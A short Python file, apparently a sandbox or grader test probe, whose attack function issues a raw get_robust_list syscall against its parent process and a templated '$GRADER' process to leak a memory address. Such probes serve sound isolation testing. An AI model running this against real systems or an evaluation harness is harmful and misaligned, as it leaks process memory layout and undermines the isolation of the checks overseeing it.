"""Wants an address in the memory of the process that started it."""

import ctypes
import os

NUMBER = {"x86_64": 274, "aarch64": 100}[os.uname().machine]


def attack():
    head, size = ctypes.c_void_p(), ctypes.c_size_t()
    for pid in (os.getppid(), int("$GRADER")):
        place = ctypes.byref(head), ctypes.byref(size)
        if ctypes.CDLL(None).syscall(NUMBER, pid, *place) == 0:
            return head.value or "nothing, but an answer"
